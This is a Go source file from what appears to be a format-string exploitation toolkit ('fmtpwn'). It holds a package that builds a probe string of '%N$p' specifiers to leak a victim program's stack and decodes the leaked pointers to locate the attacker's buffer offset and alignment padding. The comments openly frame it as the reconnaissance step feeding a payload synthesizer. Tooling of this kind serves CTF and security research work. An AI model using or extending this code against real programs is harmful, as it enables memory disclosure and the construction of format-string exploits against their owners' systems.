// Package pattern generates and decodes the offset-discovery probe: a
// format string whose victim-rendered output reveals where an attacker
// buffer sits in the victim's varargs. It is deliberately simple relative
// to the payload synthesizer in the root package: trivial string emission
// and a linear scan.
package pattern

import (
	"fmt"
	"strconv"
	"strings"

	"github.com/xyproto/fmtpwn/arch"
)

// marker is the fixed literal prefix both Create and Offset recognize.
const marker = "ABCDEFGH"

// Create emits the literal marker followed by "|%N$p" fields for
// N = startOffset, startOffset+1, ... for as long as the result fits
// within bufferSize.
func Create(bufferSize, startOffset int) string {
	var b strings.Builder
	b.WriteString(marker)
	offset := startOffset
	for {
		field := fmt.Sprintf("|%%%d$p", offset)
		if b.Len()+len(field) > bufferSize {
			break
		}
		b.WriteString(field)
		offset++
	}
	return b.String()
}

// Offset decodes the victim's rendered output of a Create probe, returning
// the varargs index the buffer occupies and the padding needed before the
// next word-aligned field. found is false if the marker could not be
// located in the reconstructed memory image.
func Offset(rendered string, startOffset int, architecture arch.Architecture) (offset, padding int, found bool, err error) {
	rendered = strings.ReplaceAll(rendered, "(nil)", "0x0")
	fields := strings.Split(rendered, "|")
	if len(fields) > 0 && fields[0] == marker {
		fields = fields[1:]
	}

	w := architecture.WordBytes()
	memory := make([]byte, 0, len(fields)*w)
	for _, f := range fields {
		f = strings.TrimSpace(f)
		if f == "" {
			continue
		}
		v, perr := strconv.ParseUint(strings.TrimPrefix(f, "0x"), 16, 64)
		if perr != nil {
			return 0, 0, false, fmt.Errorf("pattern: field %q is not a hex pointer: %w", f, perr)
		}
		packed, perr := architecture.PackAddress(arch.Address(v))
		if perr != nil {
			return 0, 0, false, perr
		}
		memory = append(memory, packed...)
	}

	needle := marker + "|%"
	haystack := string(memory)
	for i := 0; i+len(needle) <= len(haystack); i++ {
		if haystack[i:i+len(needle)] == needle {
			if i%w == 0 {
				return startOffset + i/w, 0, true, nil
			}
			return startOffset + i/w + 1, w - i%w, true, nil
		}
	}
	return 0, 0, false, nil
}
